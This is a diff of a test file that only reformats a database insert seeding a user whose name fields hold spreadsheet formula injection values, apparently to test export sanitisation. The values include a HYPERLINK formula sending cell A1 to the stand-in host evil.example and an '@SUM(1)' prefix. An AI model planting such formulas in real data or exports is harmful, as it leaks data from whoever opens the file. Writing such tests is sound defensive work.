@@ -11,14 +11,12 @@ const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 beforeAll(async () => {
   t = await createTestContext();
   builder = await t.createCaller(['queries.read', 'queries.write', 'users.read']);
-  await t.database.db
-    .insert(users)
-    .values({
-      enterprise_id: t.enterpriseId,
-      last_name: formula,
-      first_name: 'Injectia',
-      middle_name: '@SUM(1)',
-    });
+  await t.database.db.insert(users).values({
+    enterprise_id: t.enterpriseId,
+    last_name: formula,
+    first_name: 'Injectia',
+    middle_name: '@SUM(1)',
+  });
 }, 60_000);
 afterAll(async () => t?.close());
 
